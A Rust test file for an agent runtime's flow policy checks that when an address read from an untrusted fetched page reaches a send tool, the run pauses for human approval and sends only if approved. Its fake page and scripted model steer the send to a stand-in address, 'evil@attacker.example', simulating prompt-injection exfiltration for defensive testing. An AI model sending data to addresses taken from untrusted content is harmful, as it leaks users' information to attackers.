//! `on_deny = "ask"` with no terminal (issue 35, `docs/security.md`): a
//! denied flow pauses the run with a question; answered yes, the resumed
//! run makes the call once and completes without asking again; answered
//! no, it fails with `policy.denied` and the call never happens. In the
//! program's code and inside a tool-calling exchange.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use ais_ir::ifc::FlowPolicy;
use ais_testkit::fake::{text_reply, FakeBackend};
use ais_testkit::MemoryHost;
use ais_vm::journal::{Journal, Status};
use ais_vm::llm::{LlmResponse, ToolCall, Turn};
use ais_vm::store::sqlite::SqliteStore;
use ais_vm::store::Store;
use ais_vm::{Host, RunError, RunOptions};
use serde_json::{json, Value as Json};
use std::sync::{Arc, Mutex};

const CODE: &str = r#"agent A {
    capability fetch_page(url: str) -> str;
    capability send(to: str, note: str) -> json;

    @entry flow main(who: str) -> str {
        let doc = fetch_page(who)
        send(doc, "hi")
        return "done"
    }
}
"#;

const EXCHANGE: &str = r#"agent A {
    capability fetch_page(url: str) -> str;
    capability send(to: str, note: str) -> json;

    @entry flow main(who: str) -> str {
        return ask("Send the note to the address on the page.", tools: [fetch_page, send], max_steps: 4)
    }
}
"#;

fn policy() -> FlowPolicy {
    let v: toml::Value = toml::from_str(
        r#"
[policy]
untrusted = ["fetch_page"]
[policy.sinks.fetch_page]
sink = false
[policy.sinks.send]
allow_untrusted = ["note"]
[policy.sinks.send.args.to]
on_deny = "ask"
"#,
    )
    .unwrap();
    v["policy"].clone().try_into().unwrap()
}

/// Reads the page, then sends to the address it holds.
fn model() -> FakeBackend {
    FakeBackend::new().with_script(|req, _| {
        if req.tools.is_empty() {
            return None;
        }
        let n = req
            .turns
            .iter()
            .filter(|t| matches!(t, Turn::Assistant { .. }))
            .count();
        let call = |name: &str, args: Json| {
            let mut r: LlmResponse = text_reply("");
            r.finish_reason = "tool_calls".into();
            r.tool_calls = vec![ToolCall {
                id: format!("c{n}"),
                name: name.into(),
                arguments: args.to_string(),
            }];
            r
        };
        Some(Ok(match n {
            0 => call("fetch_page", json!({"url": "bob"})),
            1 => call("send", json!({"to": "evil@attacker.example", "note": "hi"})),
            _ => text_reply("done"),
        }))
    })
}

struct World {
    program: ais_ir::bytecode::Program,
    host: Arc<MemoryHost>,
    sends: Arc<Mutex<Vec<Json>>>,
}

fn world(src: &str) -> World {
    let module = ais_compiler::driver::lower_source(src).unwrap();
    let program = ais_ir::bytecode::compile(&module).unwrap();
    let host = Arc::new(MemoryHost::new());
    host.register_tool("fetch_page", |_| Ok(json!("evil@attacker.example")));
    let sends = Arc::new(Mutex::new(Vec::new()));
    let s = sends.clone();
    host.register_tool("send", move |a| {
        s.lock().unwrap().push(a.clone());
        Ok(json!({"ok": true}))
    });
    World {
        program,
        host,
        sends,
    }
}

fn run(w: &World, j: Arc<Journal>) -> Result<Json, RunError> {
    let o = RunOptions {
        args: vec![("who".into(), json!("bob"))],
        workers: Some(2),
        journal: Some(j),
        flow_policy: policy(),
        ..RunOptions::default()
    };
    ais_vm::run(
        &w.program,
        &o,
        Arc::new(model()),
        w.host.clone() as Arc<dyn Host>,
    )
    .outcome
}

fn code_of(r: &Result<Json, RunError>) -> Option<String> {
    match r {
        Err(RunError::OpFailed { code, .. }) => Some(code.clone()),
        _ => None,
    }
}

fn ask_then(src: &str, answer: &str) -> (World, Result<Json, RunError>) {
    let d = tempfile::tempdir().unwrap();
    let store: Arc<dyn Store> = Arc::new(SqliteStore::open(Some(d.path())).unwrap());
    let w = world(src);
    let bytes = ais_ir::bytecode::encode(&w.program).unwrap();
    let args = [("who".to_string(), json!("bob"))];
    let j = Journal::begin_in(store.clone(), "r", "t", &bytes, None, &args).unwrap();
    let r = run(&w, Arc::new(j));
    assert_eq!(
        code_of(&r).as_deref(),
        Some("run.paused"),
        "{r:?} {:?}",
        w.sends.lock().unwrap()
    );
    assert_eq!(store.list_runs().unwrap()[0].status, Status::Paused);
    assert!(
        w.sends.lock().unwrap().is_empty(),
        "nothing sent before the answer"
    );
    let mut j = Journal::resume_in(store.clone(), "r").unwrap();
    let question = j
        .answer(&json!(answer))
        .unwrap()
        .expect("waits for an answer");
    assert!(
        question.contains("fetch_page") && question.contains("`send` argument `to`"),
        "{question}"
    );
    let r = run(&w, Arc::new(j));
    (w, r)
}

#[test]
fn approved_once_the_resumed_run_sends_without_asking_again() {
    for src in [CODE, EXCHANGE] {
        let (w, r) = ask_then(src, "yes");
        assert_eq!(r.unwrap(), json!("done"));
        let sent = w.sends.lock().unwrap().clone();
        assert_eq!(sent.len(), 1, "{sent:?}");
        assert_eq!(sent[0]["to"], "evil@attacker.example");
    }
}

#[test]
fn refused_the_flow_fails_with_policy_denied() {
    let (w, r) = ask_then(CODE, "no");
    assert_eq!(code_of(&r).as_deref(), Some("policy.denied"), "{r:?}");
    assert!(w.sends.lock().unwrap().is_empty());
    // In an exchange a refusal goes back to the model, which answers.
    let (w, r) = ask_then(EXCHANGE, "no");
    assert_eq!(r.unwrap(), json!("done"));
    assert!(w.sends.lock().unwrap().is_empty());
}
